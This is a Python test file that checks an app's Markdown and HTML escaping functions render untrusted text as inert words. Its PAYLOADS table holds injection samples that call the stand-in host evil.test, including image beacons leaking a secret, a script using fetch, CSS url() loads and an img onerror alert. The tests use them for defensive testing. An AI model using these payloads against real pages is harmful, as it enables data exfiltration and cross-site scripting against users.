"""Text of strangers is shown as it stands, and nothing in it takes effect.

Two oracles: markdown-it for everything Markdown itself understands, and the patterns that
Streamlit's page looks for in the text after Markdown is done with it.
"""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from app.safe import to_html, to_markdown

MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])
PLAIN_TOKENS = {"paragraph_open", "paragraph_close", "inline", "text", "hardbreak", "text_special"}
# What the page's own plugins replace in finished text: addresses, e-mail, emoji, icons, arrows.
AFTERWARDS = {
    "address": re.compile(r"(https?://|www(?=\.))([-.\w]+)", re.IGNORECASE),
    "e-mail": re.compile(r"[-.\w+]+@[-\w]+(\.[-\w]+)+"),
    "emoji": re.compile(r":\+1:|:-1:|:[\w-]+:"),
    "icon": re.compile(r":material[/_]\w+:"),
    "logo": re.compile(r":streamlit:"),
    "arrow": re.compile(r"<->|<-|->|--|>=|<=|~="),
}
PAYLOADS = {
    "image": "![x](http://evil.test/?secret)",
    "image by reference": "![x][r]\n\n[r]: http://evil.test/",
    "image in angle brackets": "![x](<http://evil.test/>)",
    "image with a title": '![x](http://evil.test/ "t")',
    "linked image": "[![x](http://evil.test/)](http://evil.test/)",
    "image without a protocol": "![x](//evil.test/a.png)",
    "table": "| a | b |\n|---|---|\n| ![x](http://evil.test/) | 2 |",
    "footnote": "[^1]\n\n[^1]: ![x](http://evil.test/)",
    "badge": ":red-badge[![x](http://evil.test/)]",
    "HTML image": '<img src="http://evil.test/" onerror="alert(1)">',
    "style": "<style>body{background:url(http://evil.test/)}</style>",
    "script": "<script>fetch('http://evil.test/')</script>",
    "link": "[text](http://evil.test/) <http://evil.test/>",
    "bare address": "http://evil.test/a HTTPS://evil.test www.evil.test WWW.evil.test",
    "e-mail": "write to someone@evil.test now",
    "code and diagrams": "```mermaid\ngraph TD; A-->B\n```\n\n    indented\n\n\ttab\n\n`inline`",
    "formula": "$x^2$ and $$\n\\includegraphics{http://evil.test/}\n$$ costs $5",
    "directive": ":red[x] :blue-background[y] ::name[z] :::note\nx\n:::",
    "emoji and icons": ":tada: :+1: :streamlit: :material/home: :material_home:",
    "arrows": "a -> b <- c <-> d -- e >= f <= g ~= h",
    "blocks": "# h\n\n> q\n\n- a\n* b\n+ c\n1. d\n2) e\n\nh\n===\n\nh\n---\n\n***",
    "emphasis": "*a* **b** _c_ __d__ ~e~ ~~f~~ &lt;b&gt; &#33; \\* a\\",
    "line ends": "one\rtwo\r\nthree\x0bfour\u2028five",
}


def shown(markdown):
    """Return the text a page shows for `markdown`, which must be nothing but text."""
    pieces = []
    for token in MARKDOWN.parse(markdown):
        assert token.type in PLAIN_TOKENS
        if token.type == "paragraph_open" and pieces:
            pieces.append("\n\n")
        for child in token.children or ():
            assert child.type in PLAIN_TOKENS
            pieces.append("\n" if child.type == "hardbreak" else child.content)
    text = "".join(pieces)
    assert {what: found[0] for what, p in AFTERWARDS.items() if (found := p.search(text))} == {}
    return text


def words(text):
    return text.replace("\u2060", "").replace("\u00a0", " ").split()


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
def test_markdown_shows_a_payload_as_the_words_it_is(payload):
    assert words(shown(to_markdown(payload))) == payload.split()


@given(
    st.text(alphabet=st.characters(exclude_categories=["Cs", "Cc", "Cf"]) | st.sampled_from("\n\t"))
)
def test_markdown_shows_any_text_as_the_words_it_is(text):
    assert words(shown(to_markdown(text))) == text.replace("\u2060", "").split()


@given(st.text(alphabet="[]()!<>:/.w@-_*#`$|~=+\\&;1a \t\n"))
def test_markdown_shows_any_heap_of_punctuation_as_it_is(text):
    assert words(shown(to_markdown(text))) == text.split()


def test_markdown_keeps_lines_and_paragraphs():
    assert shown(to_markdown("one\ntwo\n\nthree")) == "one\ntwo\n\nthree"


class _Texts(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.text, self.tags = "", []

    def handle_data(self, data):
        self.text += data

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))


@given(st.text() | st.sampled_from(list(PAYLOADS.values())))
def test_html_shows_exactly_the_text(text):
    parser = _Texts()
    parser.feed(f"<p>{to_html(text)}</p>")
    parser.close()
    assert parser.text == text
    assert parser.tags == [("p", [])]


@given(st.text())
def test_html_stays_inside_of_an_attribute(text):
    parser = _Texts()
    parser.feed(f'<p title="{to_html(text)}">')
    assert parser.tags == [("p", [("title", text)])]
